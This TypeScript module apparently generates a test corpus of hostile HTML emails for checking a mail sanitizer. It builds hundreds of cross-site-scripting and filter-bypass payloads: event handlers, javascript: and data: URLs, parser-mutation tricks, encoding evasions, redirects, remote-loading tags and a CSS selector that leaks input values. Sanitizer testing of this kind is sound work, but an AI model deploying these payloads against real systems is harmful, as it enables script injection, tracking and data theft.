/** A mail that tries something. `needsClick`: only when someone clicks on what it shows. */
export type Attack = { kind: string; html: string; needsClick?: boolean }

/** What an attack uses: a script to run, and addresses to ask for. */
export type Means = { script: string; url: (file: string) => string }

/** Hundreds of ways to run a script, to ask the network for something, or to take the page elsewhere. */
export function attacks(means: Means): Attack[] {
  return [
    ...handlers(means),
    ...spellings(means),
    ...scripts(means),
    ...scriptAddresses(means),
    ...framedDocuments(means),
    ...mutations(means),
    ...loadingElements(means),
    ...loadingStyles(means),
    ...navigations(means),
    ...encodings(means),
  ]
}

function ofKind(kind: string, pages: string[], options: { needsClick?: boolean } = {}): Attack[] {
  return pages.map((html) => ({ kind, html, ...options }))
}

/** Elements that have something happen to them by themselves. */
function handlers({ script }: Means): Attack[] {
  const value = quoted(script)
  const loading = `img video audio iframe embed object svg link script input`.split(' ')
  return [
    ...ofKind('handler of loading', [
      ...loading.map(
        (name) => `<${name} src=x href=x data=x type=image rel=stylesheet onerror=${value} onload=${value}>`,
      ),
      `<body onload=${value}>`,
      `<body onpageshow=${value}>`,
      `<svg onload=${value}></svg>`,
      `<svg><g onload=${value}></g></svg>`,
      `<svg><image href=x onerror=${value}></svg>`,
      `<svg><animate onbegin=${value} attributeName=x dur=1s></svg>`,
      `<svg><set onbegin=${value} attributeName=x to=1></svg>`,
      `<svg><animatetransform onbegin=${value} attributeName=transform dur=1s></svg>`,
      `<video><source onerror=${value}></video>`,
      `<audio src=x onerror=${value}></audio>`,
      `<picture><source srcset=x><img onerror=${value} src=x></picture>`,
      `<style onload=${value}>a{}</style>`,
      `<link rel=stylesheet href=data:text/css, onload=${value}>`,
      `<object data=x onerror=${value}></object>`,
      `<iframe src=about:blank onload=${value}></iframe>`,
      `<frameset onload=${value}><frame></frameset>`,
      `<details open ontoggle=${value}><summary>x</summary></details>`,
      `<marquee onstart=${value}>x</marquee>`,
      `<image src=x onerror=${value}>`,
      `<track src=x onerror=${value}>`,
    ]),
    ...ofKind('handler of focus', [
      ...['input', 'textarea', 'select', 'button'].map((name) => `<${name} autofocus onfocus=${value}></${name}>`),
      `<a autofocus tabindex=0 href=#x onfocus=${value}>x</a>`,
      `<p contenteditable autofocus onfocus=${value}>x</p>`,
    ]),
    ...ofKind('handler of animation', [
      `<style>@keyframes k{to{left:0}}</style><p style="animation:k 1ms" onanimationstart=${value}>x</p>`,
      `<style>@keyframes k{to{left:0}}</style><p style="animation:k 1ms" onanimationend=${value}>x</p>`,
      `<style>@keyframes k{to{left:0}}</style><b style="animation:k 1ms" onwebkitanimationend=${value}>x</b>`,
    ]),
    ...ofKind(
      'handler of a click',
      ['onclick', 'onmousedown', 'onmouseup', 'onpointerdown', 'onmouseover', 'onmouseenter', 'ONCLICK'].map(
        (name) => `<p ${name}=${value}>click me</p>`,
      ),
      { needsClick: true },
    ),
  ]
}

/** One attack, written in all the ways that sieves have overlooked. */
function spellings({ script }: Means): Attack[] {
  const value = quoted(script)
  const bare = script.replaceAll(/[\s"]/g, '')
  const entities = Array.from(script, (character) => `&#${character.charCodeAt(0)};`).join('')
  const hexadecimal = Array.from(script, (character) => `&#x${character.charCodeAt(0).toString(16)}`).join(';')
  return ofKind('spelling', [
    `<img src=x onerror=${bare}>`,
    `<IMG SRC=x ONERROR=${value}>`,
    `<iMg sRc=x oNeRrOr=${value}>`,
    `<img src=x onerror = ${value} >`,
    `<img\nsrc=x\nonerror\n=\n${value}>`,
    `<img\tsrc=x\tonerror=${value}>`,
    `<img\fsrc=x\fonerror=${value}>`,
    `<img/src=x/onerror=${value}>`,
    `<img/src="x"onerror=${value}>`,
    `<img src="x" alt="'"onerror=${value}>`,
    `<img """><img src=x onerror=${value}>`,
    `<img src='x' alt='>' onerror=${value}>`,
    `<img src=x alt="<b>" onerror=${value}>`,
    `<img src=x onerror="${entities}">`,
    `<img src=x onerror="${hexadecimal}">`,
    `<img src=x onerror=${entities}>`,
    `<img src=x onerror=${value}`,
    `<img src=x onerror=${value} //`,
    `<<img src=x onerror=${value}>`,
    `<p<img src=x onerror=${value}>`,
    `</p <img><img src=x onerror=${value}>`,
    `<!--><img src=x onerror=${value}>-->`,
    `<!---><img src=x onerror=${value}>-->`,
    `<!-- --!><img src=x onerror=${value}>`,
    `<!-- > --><img src=x onerror=${value}>`,
    `<![CDATA[<img src=x onerror=${value}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${value}>`,
    `<![if !mso]><img src=x onerror=${value}><![endif]>`,
    `<!--[if !mso]><!--><img src=x onerror=${value}><!--<![endif]-->`,
    `<img src=x onerror=x onerror=${value}><img onerror=${value} src=x>`,
    `<img src=x =onerror=${value} onerror=${value}>`,
    `<img src=x data-a="\\" onerror=${value}>`,
    `<a title="</a><img src=x onerror=1>"><img src=x onerror=${value}></a>`,
    `<table><td background=x><img src=x onerror=${value}>`,
    `<select><option><img src=x onerror=${value}></select><img src=x onerror=${value}>`,
    `<img src=x onerror=${value}\0>`,
    `<im\0g src=x onerror=${value}><img src=x onerror=${value}>`,
    `<x onx=1><img src=x onerror=${value}></x>`,
    `${'<div>'.repeat(600)}<img src=x onerror=${value}>`,
    `${' '.repeat(5_000)}<img src=x onerror=${value}>`,
  ])
}

function scripts({ script, url }: Means): Attack[] {
  return ofKind('script', [
    `<script>${script}</script>`,
    `<SCRIPT>${script}</SCRIPT>`,
    `<script\n>${script}</script >`,
    `<script/x>${script}</script/x>`,
    `<script type=text/javascript>${script}</script>`,
    `<script type=module>${script}</script>`,
    `<script language=javascript>${script}</script>`,
    `<script src=${url('a.js')}></script>`,
    `<script src="${url('b.js')}" async></script>`,
    `<script type=module src=${url('c.js')}></script>`,
    `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><script href=${url('d.js')}></script></svg>`,
    `<math><script>${script}</script></math>`,
    `<scr<script>ipt>${script}</script><script>${script}</script>`,
    `<script><!--\n${script}\n//--></script>`,
    `<script>//<![CDATA[\n${script}\n//]]></script>`,
    `<noscript><p title="</noscript><script>${script}</script>">`,
    `<p><script>${script}</script></p>`,
    `<table><script>${script}</script></table>`,
    `<template><script>${script}</script></template><script>${script}</script>`,
    `<script>${script}`,
    `<title><script>1</script></title><script>${script}</script>`,
    `<script nonce=x integrity=x>${script}</script>`,
    `<script type=importmap>{"imports":{"x":"${url('e.js')}"}}</script><script type=module>import "x"</script>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url('f.html')}"]}]}</script>`,
  ])
}

/** Addresses that are programs. */
function scriptAddresses({ script }: Means): Attack[] {
  const address = `javascript:${encodeURIComponent(script)}`
  const spelt = [
    address,
    `JaVaScRiPt:${encodeURIComponent(script)}`,
    ` ${address}`,
    `\u0001${address}`,
    `java\tscript:${encodeURIComponent(script)}`,
    `java\nscript:${encodeURIComponent(script)}`,
    `java&#9;script:${encodeURIComponent(script)}`,
    `java&NewLine;script&colon;${encodeURIComponent(script)}`,
    `&#106;&#97;vascript&#58;${encodeURIComponent(script)}`,
    `&#x6a&#x61;vascript:${encodeURIComponent(script)}`,
    `javascript://%0a${encodeURIComponent(script)}`,
    `feed:${address}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
    `blob:${address}`,
  ]
  return [
    ...ofKind(
      'address in a link',
      spelt.map((href) => `<a href="${href}">click me</a>`),
      { needsClick: true },
    ),
    ...ofKind(
      'address that is clicked',
      [
        `<form action="${address}"><button>click me</button></form>`,
        `<form><button formaction="${address}">click me</button></form>`,
        `<form><input type=submit formaction="${address}" value="click me"></form>`,
        `<svg><a href="${address}"><text y=20>click me</text></a></svg>`,
        `<svg><a xlink:href="${address}"><text y=20>click me</text></a></svg>`,
        `<math><mtext href="${address}">click me</mtext></math>`,
        `<a href="${address}" target=_self>click me</a>`,
        `<a href="${address}" target=_top>click me</a>`,
        `<a href="${address}" target=_parent rel=opener>click me</a>`,
        `<a href="${address}" target=_blank rel=opener>click me</a>`,
        `<img usemap=#m width=99 height=99 alt="click me"><map name=m><area shape=default href="${address}"></map>`,
      ],
      { needsClick: true },
    ),
    ...ofKind(
      'address of an element',
      spelt
        .slice(0, 6)
        .flatMap((src) => [
          `<iframe src="${src}"></iframe>`,
          `<object data="${src}"></object>`,
          `<embed src="${src}">`,
          `<img src="${src}">`,
          `<body background="${src}">`,
        ]),
    ),
  ]
}

function framedDocuments({ script, url }: Means): Attack[] {
  const page = `<script>${script}</script>`
  return ofKind('framed document', [
    `<iframe srcdoc="${escape(page)}"></iframe>`,
    `<iframe srcdoc='${page.replaceAll("'", '&#39;')}'></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="${escape(page)}"></iframe>`,
    `<iframe src="data:text/html,${encodeURIComponent(page)}"></iframe>`,
    `<iframe src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg">${page}</svg>`)}"></iframe>`,
    `<object data="data:text/html,${encodeURIComponent(page)}"></object>`,
    `<object type=text/html data="${url('framed.html')}"></object>`,
    `<embed src="data:text/html,${encodeURIComponent(page)}">`,
    `<embed type=text/html src="${url('embedded.html')}">`,
    `<iframe src="${url('frame.html')}"></iframe>`,
    `<frameset><frame src="${url('frames.html')}"></frameset>`,
    `<iframe srcdoc="${escape(page)}" loading=eager></iframe>`,
    `<portal src="${url('portal.html')}"></portal>`,
    `<fencedframe src="${url('fenced.html')}"></fencedframe>`,
  ])
}

/** Markup that one parser reads otherwise than another. */
function mutations({ script }: Means): Attack[] {
  const image = `<img src=x onerror=${quoted(script)}>`
  const inValue = escape(image)
  return ofKind('mutation', [
    `<noscript><p title="</noscript>${image}">x</p></noscript>`,
    `<noembed><p title="</noembed>${image}">`,
    `<noframes><p title="</noframes>${image}">`,
    `<xmp><p title="</xmp>${image}">`,
    `<textarea><p title="</textarea>${image}">`,
    `<title><p title="</title>${image}">`,
    `<style><p title="</style>${image}">`,
    `<iframe><p title="</iframe>${image}">`,
    `<plaintext>${image}`,
    `<svg><style><p title="</style>${image}"></style></svg>`,
    `<svg></p><style><a title="</style>${image}">`,
    `<svg><title><p>${image}</p></title></svg>`,
    `<svg><desc>${image}</desc></svg>`,
    `<svg><foreignObject>${image}</foreignObject></svg>`,
    `<svg><p>${image}</svg>`,
    `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;${inValue}">${image}`,
    `<math><mtext><mglyph><style><img src=x></style>${image}</math>`,
    `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    `<math><mi>${image}</mi></math>`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<table><tr><svg><td>${image}`,
    `<select><template><style><!--</style>${image}--></template></select>${image}`,
    `<template><p>${image}</p></template>${image}`,
    `<template shadowrootmode=open>${image}</template>`,
    `<div><template shadowrootmode=open>${image}</template></div>`,
    `<a><svg><a>${image}</a></svg></a>`,
    `<p id="\`${inValue}">${image}</p>`,
    `<listing>${inValue}${image}</listing>`,
    `<keygen autofocus><isindex prompt="x">${image}`,
    `<b><p></b>${image}</p>`,
    `<dialog open>${image}</dialog>`,
    `<object><param name=x value=y>${image}</object>`,
    `<ruby><rt>${image}</ruby>`,
  ])
}

/** Elements and attributes that ask the network for something, as soon as they are there. */
function loadingElements({ url }: Means): Attack[] {
  let number = 0
  const next = (ending = 'png') => url(`element-${++number}.${ending}`)
  const relations = `stylesheet icon preload prefetch modulepreload manifest apple-touch-icon preconnect dns-prefetch prerender`
  return ofKind('loading element', [
    `<img src="${next()}">`,
    `<img src=${next()} width=1 height=1 style="display:none">`,
    `<img src="${next().replace('http:', '')}">`,
    `<img src="\n${next()}">`,
    `<img srcset="${next()} 1x, ${next()} 2x">`,
    `<img src="data:," srcset="${next()} 100w" sizes=100vw>`,
    `<img loading=lazy src="${next()}">`,
    `<img lowsrc="${next()}" dynsrc="${next()}" src="${next()}">`,
    `<picture><source srcset="${next()}"><img></picture>`,
    `<input type=image src="${next()}">`,
    `<video src="${next('mp4')}" preload=auto></video>`,
    `<video poster="${next()}"></video>`,
    `<video autoplay muted><source src="${next('mp4')}"></video>`,
    `<video src=data:, ><track default src="${next('vtt')}"></video><img src="${next()}">`,
    `<audio src="${next('mp3')}" preload=auto></audio>`,
    `<audio autoplay><source src="${next('mp3')}"></audio>`,
    `<bgsound src="${next('wav')}"><img src="${next()}">`,
    `<body background="${next()}">`,
    `<table background="${next()}"><tr><td>x</table>`,
    `<table><tr><td background="${next()}">x</table>`,
    `<table><tr><th background="${next()}">x</table>`,
    `<iframe src="${next('html')}"></iframe>`,
    `<object data="${next()}"></object>`,
    `<embed src="${next()}">`,
    `<applet code=x archive="${next('jar')}"></applet><img src="${next()}">`,
    `<script src="${next('js')}"></script>`,
    `<svg><image href="${next()}"></svg>`,
    `<svg><image xlink:href="${next()}"></svg>`,
    `<svg><use href="${next('svg')}#x"></svg>`,
    `<svg><feImage href="${next()}"></svg><svg><filter id=f><feImage href="${next()}"></filter><rect width=9 height=9 filter=url(#f)></svg>`,
    `<svg><rect fill="url(${next('svg')}#a)" width=9 height=9></svg>`,
    `<svg><style>rect{fill:url(${next('svg')}#a)}</style><rect width=9 height=9></svg>`,
    `<svg style="background:url(${next()})" width=9 height=9></svg>`,
    `<base href="${url('')}"><img src="relative-${++number}.png">`,
    `<link rel="shortcut icon" href="${next('ico')}"><img src="${next()}">`,
    `<meta http-equiv="Link" content="<${next('css')}>; rel=stylesheet"><img src="${next()}">`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${next()}">`,
    `<meta http-equiv="Content-Security-Policy-Report-Only" content="img-src 'none'; report-uri ${next('report')}"><img src="${next()}">`,
    `<html manifest="${next('manifest')}"><img src="${next()}">`,
    `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${next()}"/></svg>`)}"><img src="${next()}">`,
    ...relations
      .split(' ')
      .flatMap((relation) => [
        `<link rel=${relation} as=image href="${next('css')}"><img src="${next()}">`,
        `<link rel="${relation} stylesheet" href="${next('css')}">`,
      ]),
  ])
}

function loadingStyles({ url }: Means): Attack[] {
  let number = 0
  const next = (ending = 'png') => url(`style-${++number}.${ending}`)
  const properties =
    `background background-image list-style list-style-image content cursor border-image border-image-source
    mask mask-image -webkit-mask-image -webkit-mask-box-image-source shape-outside`.split(/\s+/)
  const box = 'display:list-item;width:99px;height:99px;border:9px solid'
  return ofKind('loading style', [
    ...properties.map((name) => `<p style="${box};${name}:url(${next()})">x</p>`),
    ...properties.map((name) => `<style>p{${box};${name}:url("${next()}")}</style><p>x</p>`),
    ...properties.map((name) => `<style>p::before{${box};content:"x";${name}:url('${next()}')}</style><p>x</p>`),
    `<style>@import "${next('css')}";</style>`,
    `<style>@import '${next('css')}' screen;</style>`,
    `<style>@import url(${next('css')});</style>`,
    `<style>@import url("${next('css')}") layer(x);</style>`,
    `<style>@IMPORT URL(${next('css')});</style>`,
    `<style>@\\69mport "${next('css')}";</style>`,
    `<style>@import/**/"${next('css')}";</style>`,
    `<style>/*</style><style>*/@import "${next('css')}";</style><style>@import "${next('css')}";</style>`,
    `<style><!-- @import "${next('css')}"; --></style>`,
    `<style>@charset "utf-8";@import "${next('css')}";</style>`,
    `<style>@font-face{font-family:f;src:url(${next('woff2')})}p{font-family:f}</style><p>x</p>`,
    `<style>@font-face{font-family:f;src:local(x),url("${next('woff2')}") format("woff2")}p{font:9px f}</style><p>x</p>`,
    `<p style="background:\\75rl(${next()})">x</p>`,
    `<p style="background:u\\72 l(${next()})">x</p>`,
    `<p style="background:url(/**/${next()})">x</p><p style="background:/**/url(${next()})">x</p>`,
    `<p style="background:URL(${next()})">x</p>`,
    `<p style="background:url(&quot;${next()}&quot;)">x</p>`,
    `<p style='background:&#117;rl(${next()})'>x</p>`,
    `<p style="background:url(\n${next()}\n)">x</p>`,
    `<p style="background:image-set('${next()}' 1x)">x</p>`,
    `<p style="background:-webkit-image-set(url(${next()}) 1x)">x</p>`,
    `<p style="background:cross-fade(url(${next()}),url(${next()}),50%)">x</p>`,
    `<p style="background:linear-gradient(red,red),url(${next()})">x</p>`,
    `<p style="--u:url(${next()});background:var(--u)">x</p>`,
    `<p style="filter:url(${next('svg')}#f)">x</p>`,
    `<p style="clip-path:url(${next('svg')}#c)">x</p>`,
    `<style>@media screen{body{background:url(${next()})}}</style>`,
    `<style>@supports (color:red){body{background:url(${next()})}}</style>`,
    `<style>@layer a{body{background:url(${next()})}}</style>`,
    `<style>body{& p{background:url(${next()})}}</style><p>x</p>`,
    `<style media=all type=text/css>body{background:url(${next()})}</style>`,
    `<style>@namespace url(${next('ns')});body{background:url(${next()})}</style><style>body{background:url(${next()})}</style>`,
    `<style>@page{background:url(${next()})}body{background:url(${next()})}</style>`,
    `<style>a[href^="h"]{background:url(${next()})}</style><a href="https://shop.example/">x</a>`,
    `<style>input[value^="s"]{background:url(${next()})}</style><input value=secret>`,
    `<div style="width:expression(alert(1));background:url(${next()})">x</div>`,
    `<div style="behavior:url(${next('htc')});-moz-binding:url(${next('xml')});background:url(${next()})">x</div>`,
    `<head><style>body{background:url(${next()})}</style></head>`,
    `<style>body{background:url(${next()})`,
  ])
}

/** Pages that go elsewhere, or make the one around them do so. */
function navigations({ url, script }: Means): Attack[] {
  let number = 0
  const next = () => url(`navigation-${++number}.html`)
  return [
    ...ofKind('navigation', [
      `<meta http-equiv=refresh content="0;url=${next()}">`,
      `<meta http-equiv="Refresh" content="0; ${next()}">`,
      `<META HTTP-EQUIV=REFRESH CONTENT='0;URL="${next()}"'>`,
      `<meta http-equiv=refresh content="0;url=javascript:${encodeURIComponent(script)}"><meta http-equiv=refresh content="0;url=${next()}">`,
      `<meta http-equiv=refresh content="0;url=data:text/html,x"><img src=${next()}>`,
      `<head><meta content="0;url=${next()}" http-equiv=refresh></head>`,
      `<noscript><meta http-equiv=refresh content="0;url=${next()}"></noscript><img src=${next()}>`,
      `<svg><meta http-equiv=refresh content="0;url=${next()}"></svg>`,
    ]),
    ...ofKind(
      'clicked form',
      [
        `<form action="${next()}"><button>click me</button></form>`,
        `<form method=post action="${next()}"><input name=a value=b><input type=submit value="click me"></form>`,
        `<form action="${next()}" target=_top><button>click me</button></form>`,
        `<form><button formaction="${next()}">click me</button></form>`,
        `<form id=f action="${next()}"></form><button form=f>click me</button>`,
        `<form action="${next()}"><input type=image alt="click me" width=99 height=99></form>`,
        `<a href="#here" ping="${next()}">click me</a>`,
        `<base target=_top><a href="#x" ping="${next()}">click me</a>`,
      ],
      { needsClick: true },
    ),
  ]
}

function encodings({ script }: Means): Attack[] {
  const image = `<img src=x onerror=${quoted(script)}>`
  return ofKind('encoding', [
    `\ufeff${image}`,
    `\u2028${image}\u2029`,
    `<p>\u202e${image}</p>`,
    `<meta charset=utf-7>+ADw-script+AD4-${script}+ADw-/script+AD4-${image}`,
    `<meta charset=iso-2022-jp>\u001b$B${image}`,
    `&lt;script&gt;${script}&lt;/script&gt;${image}`,
    `%3Cscript%3E${script}%3C/script%3E${image}`,
    `\uff1cscript\uff1e${script}\uff1c/script\uff1e${image}`,
    `<\u0000img>${image}`,
    `<p title="\u0000">${image}</p>`,
    `${image.replace('onerror', '\u0000onerror')}${image}`,
    `<ıMG src=x>${image}`,
    `<ſcript>${script}</ſcript><script>${script}</script>`,
  ])
}

function quoted(script: string): string {
  return `"${escape(script)}"`
}

function escape(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
}
